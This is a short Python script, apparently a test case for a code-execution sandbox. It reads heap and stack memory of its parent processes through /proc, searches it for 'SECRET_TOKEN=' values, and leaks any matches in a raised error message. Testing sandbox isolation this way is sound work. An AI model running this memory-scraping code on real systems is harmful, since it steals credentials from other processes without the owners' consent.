"""Reads the memory of the processes above it through `/proc`, looking for a secret."""

# earns: normalize
# says: cell \d+ stopped with
# needs: processes
# %%
import os
import re
from pathlib import Path

found, number = set(), os.getppid()
for _ in range(3):
    areas = re.findall(r"^(\w+)-(\w+) rw-p .*\[(?:heap|stack)\]$", Path(f"/proc/{number}/maps").read_text(), re.M)
    with open(f"/proc/{number}/mem", "rb", 0) as memory:
        for start, end in areas:
            memory.seek(int(start, 16))
            found |= set(re.findall(rb"SECRET_TOKEN=[\w-]+", memory.read(int(end, 16) - int(start, 16))))
    number = int(Path(f"/proc/{number}/stat").read_text().rpartition(")")[2].split()[1])
raise ValueError(found)
# %% right: normalize
